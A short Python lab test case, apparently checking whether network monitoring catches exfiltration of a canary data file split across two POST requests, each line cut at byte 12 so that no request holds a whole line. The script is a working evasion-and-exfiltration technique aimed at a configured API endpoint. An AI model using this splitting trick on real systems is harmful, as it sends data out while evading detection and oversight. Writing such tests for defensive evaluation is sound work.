# lab:title: Canary row split over two requests
# lab:threat: exfil
# lab:layer: network
# lab:consequence: data left.
import os, urllib.request
data = open(os.environ["LAB_DATA"], "rb").read()
api = os.environ["LAB_API"]
def post(b):
    r = urllib.request.urlopen(urllib.request.Request(api + "feedback", data=b, method="POST"), timeout=5)
    return r.status
# every line cut in two halves at byte 12: nothing whole in any one request
a = b"\n".join(l[:12] for l in data.splitlines())
b = b"\n".join(l[12:] for l in data.splitlines())
print(post(a), post(b))
